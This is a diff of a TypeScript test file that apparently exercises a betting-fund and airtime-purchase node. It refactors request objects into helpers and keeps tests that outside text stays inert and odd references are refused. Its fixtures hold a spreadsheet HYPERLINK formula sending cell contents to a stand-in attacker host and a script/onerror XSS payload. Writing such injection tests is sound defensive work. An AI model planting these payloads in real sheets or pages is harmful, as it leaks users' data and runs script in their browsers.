@@ -1,32 +1,24 @@
-import { goOn, useBench } from '../support/kit';
+import { airtime, betting, goOn, useBench } from '../support/kit';
 
 const bench = useBench();
 
 const formula = '=HYPERLINK("https://evil.example?"&A1,"Receipt")';
 const script = '<script>alert(1)</script><img src=x onerror=alert(1)>';
 
-const betting = {
-	resource: 'betting',
-	operation: 'fund',
-	bettingId: '={{ $json.company }}',
-	customerId: '={{ $json.customer }}',
-	amount: 500,
-};
-const airtime = {
-	resource: 'airtime',
-	operation: 'buy',
-	phone: '={{ $json.phone }}',
-	amount: 500,
-};
+const odd = { bettingId: '={{ $json.company }}', customerId: '={{ $json.customer }}' };
 const answersWith = (path: string, change: Record<string, string>) =>
 	bench().addFault(path, { kind: 'reword', change });
 
 describe('Texts from outside that would run where they are shown', () => {
 	it('a formula in an order or in an answer of the provider stays a text in a sheet', async () => {
 		answersWith('/api/fund/betting', { message: formula });
-		const result = await bench().buy(betting, [{ company: formula, customer: '1001' }], {
-			node: goOn,
-		});
+		const result = await bench().buy(
+			betting({ ...odd, amount: 500 }),
+			[{ company: formula, customer: '1001' }],
+			{
+				node: goOn,
+			},
+		);
 		const cells = result.receipts
 			.flatMap((receipt) => Object.values(receipt))
 			.filter((cell) => typeof cell === 'string');
@@ -40,7 +32,7 @@ describe('Texts from outside that would run where they are shown', () => {
 		answersWith('/api/topup', { message: script });
 		bench().refuse('/api/topup', `Number Block ${script}`, { contains: '8030000002' });
 		const result = await bench().buy(
-			airtime,
+			airtime({ amount: 500 }),
 			[{ phone: '08030000001' }, { phone: '08030000002' }],
 			{ node: goOn },
 		);
@@ -68,7 +60,7 @@ describe('A reference that would be more than one', () => {
 		'\u202er-1',
 	])('%j is refused before anything is sent', async (own) => {
 		const result = await bench().buy(
-			{ ...airtime, repeatProtection: 'reference', reference: '={{ $json.own }}' },
+			airtime({ amount: 500, repeatProtection: 'reference', reference: '={{ $json.own }}' }),
 			[{ phone: '08030000001', own }],
 			{ node: goOn },
 		);
